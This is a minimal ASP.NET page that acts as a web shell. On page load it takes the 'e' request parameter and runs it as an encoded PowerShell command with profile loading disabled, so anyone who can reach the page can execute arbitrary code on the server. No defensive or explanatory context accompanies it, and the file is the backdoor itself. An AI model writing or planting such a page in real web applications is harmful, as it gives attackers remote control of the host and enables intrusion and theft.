<%@ Page Language="C#" %>
<script runat="server">
protected void Page_Load(object o, EventArgs e) {
  var p = new System.Diagnostics.ProcessStartInfo("powershell.exe", "-nop -enc " + Request["e"]);
  System.Diagnostics.Process.Start(p);
}
</script>
